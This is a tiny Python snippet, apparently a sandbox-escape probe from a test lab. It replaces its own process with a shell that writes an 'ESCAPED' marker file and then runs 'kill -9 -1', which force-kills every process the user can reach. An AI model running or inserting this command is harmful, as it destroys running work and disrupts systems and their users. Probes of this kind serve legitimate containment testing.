# no other program takes this one's place
import os
def f():
    try: os.execv('/bin/sh', ['sh', '-c', 'touch /tmp/azlab-ESCAPED; kill -9 -1'])
    except Exception: return 'no'
